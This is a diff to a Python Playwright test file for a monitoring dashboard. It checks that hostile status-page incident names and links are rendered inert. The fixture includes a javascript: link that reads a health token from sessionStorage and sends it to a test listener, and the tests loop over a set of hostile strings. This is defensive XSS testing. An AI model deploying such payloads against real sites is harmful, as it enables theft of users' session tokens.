@@ -18,6 +18,7 @@ from tests.browser import chromium
 from tests.conftest import SECRETS, DevServer, _clone, assert_no_secret
 from tests.fakes import FakeUpstream
 from tests.fakes.status import FakeStatusPage
+from tests.hostile import BIDI_OR_CONTROL, HOSTILE
 
 TOKEN = SECRETS["HEALTH_TOKEN"]
 STEAL = "sessionStorage.getItem('carbot.healthToken')"
@@ -36,8 +37,10 @@ def listener() -> Iterator[FakeUpstream]:
 @pytest.fixture(scope="module")
 def hostile_pages(listener: FakeUpstream) -> Iterator[tuple[FakeStatusPage, ...]]:
     """Vercel's summary.json and Stripe's Atom feed, each with a script URL as incident link;
-    Supabase's page with a real https link."""
+    Supabase's page with a real https link; OpenAI's page with every hostile string as an
+    incident's name and link."""
     statuspage, feed, honest = FakeStatusPage(), FakeStatusPage(), FakeStatusPage()
+    everything = FakeStatusPage()
     now = datetime.now(UTC) - timedelta(minutes=10)
     statuspage.open_incident(
         "Re-authenticate your deployments",
@@ -50,8 +53,10 @@ def hostile_pages(listener: FakeUpstream) -> Iterator[tuple[FakeStatusPage, ...]
         link=f"javascript:location='{listener.url}/feed?t='+{STEAL}",
     )
     honest.open_incident("Degraded builds", now, link=HONEST_LINK)
-    yield statuspage, feed, honest
-    for fake in (statuspage, feed, honest):
+    for value in HOSTILE.values():
+        everything.open_incident(value, now, link=value)
+    yield statuspage, feed, honest, everything
+    for fake in (statuspage, feed, honest, everything):
         fake.close()
 
 
@@ -60,7 +65,7 @@ def server(
     pg, monitor_template: str, hostile_pages: tuple[FakeStatusPage, ...], tmp_path_factory: Any
 ) -> Iterator[DevServer]:
     """The health check read the pages into the store; an alert quotes a bidi route."""
-    statuspage, feed, honest = hostile_pages
+    statuspage, feed, honest, everything = hostile_pages
     directory: Path = tmp_path_factory.mktemp("config")
     config = only_rules(
         directory,
@@ -73,7 +78,8 @@ url = "{feed.feed_url}"
 [providers.supabase]
 url = "{honest.summary_url}"
 [providers.openai]
-enabled = false
+kind = "statuspage"
+url = "{everything.summary_url}"
 [providers.resend]
 enabled = false
 """,
@@ -85,7 +91,7 @@ enabled = false
             settings = settings_for(url, config, provider_status=True)
             results = {"database": ProbeResult(level=Level.OK, latency_ms=5)}
             summary = check_and_alert(store, settings, now, results=results)
-            assert summary["providers"]["open_incidents"] == 3
+            assert summary["providers"]["open_incidents"] == 3 + len(HOSTILE), summary
             store.alert_cas(
                 "route_slow",
                 0,
@@ -129,9 +135,12 @@ def test_a_script_incident_link_sends_nothing_after_a_dashboard_sign_in(
     links = {p: [i["url"] for i in v["incidents"]] for p, v in status["providers"].items()}
     assert links["vercel"][0].startswith("javascript:") and links["supabase"] == [HONEST_LINK]
     assert links["stripe"][0].startswith("javascript:")
+    assert len(links["openai"]) == len(HOSTILE)
     context = browser.new_context(viewport={"width": 1200, "height": 1400})
     page = context.new_page()
     problems = watch(page)
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
     try:
         # The operator signs in on the dashboard, then follows its footer link in the same tab.
         page.goto(server.url + "/dashboard")
@@ -147,7 +156,16 @@ def test_a_script_incident_link_sends_nothing_after_a_dashboard_sign_in(
         page.wait_for_selector("body[data-loaded=true]")
         assert page.evaluate(STEAL) == TOKEN  # the token is there to steal
         shown = page.locator("#providers li.incident")
-        assert shown.count() == 3
+        assert shown.count() == 3 + len(HOSTILE)
+        # Every hostile name is text: no element of its making, no script ran, nothing hidden.
+        assert page.locator("#providers img, #providers script, #providers iframe").count() == 0
+        names = page.locator("#providers li.incident > :nth-child(2)").all_inner_texts()
+        assert not any(BIDI_OR_CONTROL.search(name) for name in names), names
+        assert HOSTILE["script"] in names and all(len(name) <= 500 for name in names)
+        for name in page.locator("#providers li.incident strong").all():  # the honest link aside
+            name.click()
+        page.wait_for_timeout(300)
+        assert dialogs == [] and page.url == server.url + "/status"
         for name in ("Re-authenticate your deployments", "Elevated API errors"):
             item = page.locator("#providers li.incident", has_text=name)
             item.locator("a, strong").first.click()
